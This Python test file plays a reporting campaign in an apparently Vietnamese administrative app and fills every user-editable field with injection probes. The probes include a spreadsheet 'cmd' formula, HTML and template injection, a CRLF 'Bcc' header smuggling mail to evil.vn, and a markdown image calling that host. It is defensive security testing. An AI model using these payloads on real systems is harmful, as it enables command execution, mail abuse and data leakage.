"""A campaign in which units write, wherever they can write anything, what means harm to some reader of it."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from enum import Enum, auto

import pytest
from openpyxl import load_workbook

from conftest import Desk
from intake.plans import make_plan
from intake.turns import InlineReaders, PlainValidator, drop, turn
from page.conftest import Clerk
from reading import corpus
from reading.hostile import png
from record.builders import answer, submit
from record.story import drop_official_draft
from record.verbs import communications, conference, ubnd_draft, unit_reports, vptu_appraisal
from soket.intake.contents import Contents
from soket.intake.nominations import take_nominations
from soket.intake.replies import take_replies
from soket.plan.model import Plan
from soket.record.keeping import read_register
from soket.record.sending import UPLOAD_VARIABLE, leader_link
from soket.stages.collect import post_answers
from soket.stages.confer import renew_lists
from soket.stages.monitor import chase, digest

UNIT, WRONG, NIL, REVIEWING, ASKING, LATE = "huyen_1", "huyen_2", "huyen_3", "huyen_4", "huyen_5", "huyen_6"
# Right in every sum, and odd: asked about, and counted.
ODD = {"CT01": (100, 1000, 9000), "CT01.1": (80, 800, 8000), "CT01.2": (20, 200, 1000)}
SIGNED = ("ban-ky.png", png(1, 1))
ADDRESS = "https://nop.example"

# What spreadsheets take for the beginning of a formula.
LEADS = ("=", "+", "-", "@", "\t=", "\r=")


class Field(Enum):
    """What a unit fills in: in its files, on forms, by mail, and on the telephone."""

    FILE = auto()
    SHEET = auto()
    CELL = auto()
    HEADING = auto()
    SENTENCE = auto()
    TALK = auto()
    WRITER = auto()
    ABOUT = auto()
    REASON = auto()
    SURE = auto()
    WHY = auto()
    ASKER = auto()
    NUMBER = auto()
    NAME = auto()
    POST = auto()
    MERIT = auto()
    BASIS = auto()
    NIL_WHY = auto()
    NIL_BY = auto()
    PLACE = auto()
    CONTENT = auto()
    PLANNED_BY = auto()
    PROMISED_BY = auto()
    GUEST = auto()
    GUEST_POST = auto()
    GUEST_PHONE = auto()
    GUEST_POINT = auto()
    OWN_REVIEW = auto()
    TOPIC = auto()
    REMARK = auto()
    SPEECH = auto()
    STRAY = auto()

    @property
    def mark(self) -> str:
        """By which its words are found again, whatever was done to them."""
        return f"x{self.value:02}q"


def words(field: Field) -> str:
    """Return what stands in a field: a formula, markup, a template, a header, another site's address."""
    lead = LEADS[field.value % len(LEADS)]
    return (
        f"{lead}cmd|'/c'!A1 {field.mark}<img src=x></w:t>{{{{7*191}}}}&amp;"
        f"\r\nBcc: {field.mark}@evil.vn\r\n![x](//evil.vn)"
    )


def on_one_line(field: Field) -> str:
    return re.sub(r"[\r\n\t]+", " ", words(field)).strip()


def as_name(field: Field, extension: str) -> str:
    """Return the words as a file's name: no key of the store holds a slash that is no folder."""
    return words(field).replace("/", "|") + extension


def _plan() -> Plan:
    plan = make_plan()
    offices = tuple(office.model_copy(update={"account": office.code}) for office in plan.offices)
    commendation = plan.commendation.model_copy(update={"nominations": True})
    return plan.model_copy(update={"commendation": commendation, "offices": offices})


@contextmanager
def _as_served() -> Iterator[None]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv(UPLOAD_VARIABLE, ADDRESS + "/{plan}/{campaign}/{unit}")
        patch.setattr("soket.intake.contents.ReaderPool", InlineReaders)
        patch.setattr("soket.page.bench.Validator", PlainValidator)
        patch.setattr("soket.board.access.REGISTER_SECONDS", 0.0)
        patch.setattr("soket.board.access.PLANS_SECONDS", 0.0)
        yield


class _Visitor(Clerk):
    """A clerk whose mails lead to the address of the office."""

    def __init__(self, desk: Desk, unit: str) -> None:
        super().__init__(desk, base_url=ADDRESS)
        self.unit = unit
        assert self.get(self.link_of(unit).removeprefix(ADDRESS)).status_code == 303

    def fill(self, place: str, filled: dict[str, str], **files: tuple[str, bytes]) -> None:
        sent = self.post(self.home(self.unit) + place, data=filled, files=files or None)
        assert sent.status_code == 303, re.sub(r"<[^>]+>|\s+", " ", sent.text)


def _report(*, whole: bool = True) -> bytes:
    """Return a report; where it is not whole, its last heading has nothing below it, and is told of."""
    last = f"IV. Kiến nghị, đề xuất {on_one_line(Field.HEADING)}"
    told = f"Trong 05 năm qua, huyện đã triển khai {on_one_line(Field.SENTENCE)} đồng bộ các nhiệm vụ, giải pháp. "
    lines = [line for heading in corpus.HEADINGS[:3] for line in (heading, told + corpus.SENTENCE * 2)]
    lines += [last, *([told + corpus.SENTENCE * 2] if whole else [])]
    return corpus.document("BÁO CÁO", "Sơ kết 05 năm thực hiện Nghị quyết", *lines)


def _table(changed: Mapping[str, Sequence[object]]) -> bytes:
    book = load_workbook(io.BytesIO(corpus.workbook(corpus.rows(changed))))
    sheet = book.worksheets[0]
    sheet.title = "=x02q<img>'{{7+191}}"  # all that a sheet may be called
    for cell in (sheet.cell(2, 9), sheet.cell(40, 1)):
        cell.value = words(Field.CELL)
        cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def play() -> Desk:
    """Play the campaign to its archive; return it."""
    plan = _plan()
    desk = Desk(plan, plan.campaigns[0])
    with _as_served():
        _report_and_ask(desk)
        _compose(desk)
        _meet(desk)
    return desk


def _report_and_ask(desk: Desk) -> None:
    unit_reports.open_stage(desk("2021-10-18 00:00"))
    communications.request_coverage(desk())
    files = {as_name(Field.FILE, ".docx"): _report(), as_name(Field.FILE, ".xlsx"): _table(ODD)}
    drop(desk, UNIT, files, "2021-11-01 09:00")
    wrong = {
        as_name(Field.FILE, ".docx"): _report(whole=False),
        as_name(Field.FILE, ".xlsx"): _table({"CT03": (1, words(Field.CELL), 3)}),
    }
    drop(desk, WRONG, wrong)
    drop(desk, ASKING, {as_name(Field.STRAY, ".exe"): b"MZ", as_name(Field.STRAY, ".html"): b"<script>a()</script>"})
    turn(desk("2021-11-01 10:00"))

    clerk = _Visitor(desk, UNIT)
    clerk.fill(
        "trao-doi?lan=1",
        {"text": words(Field.TALK), "person": words(Field.WRITER), "about": words(Field.ABOUT), "asks": "yes"},
    )
    asked = re.findall(r'name="(ghi-\w+)"', clerk.get(clerk.home(UNIT) + "so-dung/1").text)
    assert asked
    clerk.fill("so-dung/1", {**dict.fromkeys(asked, words(Field.REASON)), "person": words(Field.SURE)})
    named = {
        "name_1": words(Field.NAME),
        "kind_1": "person",
        "post_1": words(Field.POST),
        "merit_1": f"Đưa số khách tăng 20% trong một năm {words(Field.MERIT)}",
        "basis_1": words(Field.BASIS),
    }
    clerk.fill("bieu-duong", {**named, "no_secret": "yes"})
    day = {"last_day": "2021-11-12", "document_number": words(Field.NUMBER)}
    _Visitor(desk, ASKING).fill("gia-han", {"reason": words(Field.WHY), "person": words(Field.ASKER), **day})
    nil = _Visitor(desk, NIL)
    nil.fill("khong-phat-sinh", {"reason": words(Field.NIL_WHY), "person": words(Field.NIL_BY)}, signed=SIGNED)
    nil.fill("nop", {"no_secret": "yes"})
    planned = {"place": words(Field.PLACE), "content": words(Field.CONTENT), "person": words(Field.PLANNED_BY)}
    reviewing = _Visitor(desk, REVIEWING)
    reviewing.fill("ke-hoach", {"day": "2021-11-03", **planned}, signed=SIGNED)
    reviewing.fill("nop", {"no_secret": "yes"})
    turn(desk("2021-11-01 12:00"))
    with Contents(desk.store) as contents:
        take_nominations(desk(), read_register(desk()), contents)
    _mail(desk)


def _mail(desk: Desk) -> None:
    post_answers(desk(), read_register(desk()))
    chase(desk())
    digest(desk())


def _compose(desk: Desk) -> None:
    submit(desk("2021-11-03 09:00"), "so_vh")
    unit_reports.close_stage(desk("2021-11-05 00:00"))
    at = desk("2021-11-05 00:05")
    ubnd_draft.open_round(at)
    ubnd_draft.consolidate(at)
    _mail(desk)
    _promise(desk)
    drop_official_draft(desk, 1)
    at = desk("2021-11-09 15:00")
    ubnd_draft.check_official_draft(at)
    at = desk("2021-11-12 09:00")
    vptu_appraisal.open_round(at)
    vptu_appraisal.prepare_dossier(at)
    vptu_appraisal.record_appraisal(at, answer("approved", "btg", reason="Đã xem các chỗ còn lệch"))
    vptu_appraisal.transmit_report(at)


def _promise(desk: Desk) -> None:
    """Have a leader ring a unit, and enter who promised what."""
    workspace = desk("2021-11-08 09:00")
    link = leader_link(workspace, read_register(workspace, keep=False).acts, "btg", workspace.now.date())
    assert link
    leader = Clerk(desk, base_url=ADDRESS)
    assert leader.get(link.removeprefix(ADDRESS)).status_code == 303
    called = {"unit": LATE, "last_day": "2021-11-10", "person": words(Field.PROMISED_BY)}
    said = leader.post(f"/{desk.plan.id}/{desk.campaign.code}/lanh-dao/btg/goi", data=called)
    assert said.status_code == 303, said.text
    _mail(desk)


def _meet(desk: Desk) -> None:
    at = desk("2021-11-22 09:00")
    conference.open_round(at)
    hours = {"starts": "07:30", "chair": "Thường trực Tỉnh ủy", "line_test": "14:00"}
    conference.record_format(at, answer("online", "btg", day="2021-11-29", place="Phòng họp số 1", **hours))
    conference.prepare_papers(at)
    conference.check_readiness(at)
    conference.send_invitations(at)
    told = {
        "attending": "deputy",
        "person": words(Field.GUEST),
        "post": words(Field.GUEST_POST),
        "phone": words(Field.GUEST_PHONE)[:48],
        "point": words(Field.GUEST_POINT),
        "own_review": words(Field.OWN_REVIEW),
        "speaks_on": words(Field.TOPIC),
        "note": words(Field.REMARK),
    }
    speech = (as_name(Field.SPEECH, ".docx"), corpus.document(words(Field.SPEECH)))
    _Visitor(desk, UNIT).fill("giay-moi/conference", told, speech=speech)
    take_replies(desk("2021-11-22 10:00"), read_register(desk()))
    _mail(desk)
    renew_lists(desk("2021-11-23 09:00"), read_register(desk()))
    communications.send_press_pack(desk("2021-11-24 10:00"))
    communications.archive(desk("2021-12-06 07:30"))
    _mail(desk)
